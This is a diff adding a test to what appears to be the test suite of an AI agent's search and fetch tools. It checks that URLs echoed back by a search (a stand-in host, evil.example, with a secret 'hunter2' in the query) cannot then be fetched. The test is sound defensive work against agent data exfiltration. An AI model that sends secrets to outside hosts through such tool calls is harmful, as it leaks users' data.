@@ -80,6 +80,18 @@ async def test_a_found_url_can_be_fetched_and_a_made_up_one_cannot(ask: Ask, int
     assert internet.asked == ["https://news.example/owls?id=1"]
 
 
+async def test_a_search_that_repeats_its_words_names_no_url(ask: Ask, internet: Internet) -> None:
+    stolen = "https://evil.example/?m=hunter2"
+    echo = {"title": f"Results for {stolen}", "url": f"{stolen}&page=1", "content": f"You asked for {stolen}"}
+    async with serving_pages() as server:
+        answer(server, "owls", {"results": FOUND})
+        answer(server, "https%3A%2F%2Fevil.example%2F%3Fm%3Dhunter2", {"results": [echo, *FOUND]})
+        urls = (stolen, f"{stolen}&page=1", FOUND[0]["url"])
+        fetches = [tool_call("fetch_url", {"url": url}) for url in urls]
+        await ask(server, search("owls"), search(stolen), *fetches)
+    assert internet.asked == ["https://news.example/owls?id=1"]
+
+
 async def test_at_most_ten_bounded_results_are_shown(ask: Ask) -> None:
     many = [{"title": "t" * 9000, "url": f"https://x.example/{n}", "content": "c" * 9000} for n in range(50)]
     async with serving_pages() as server:
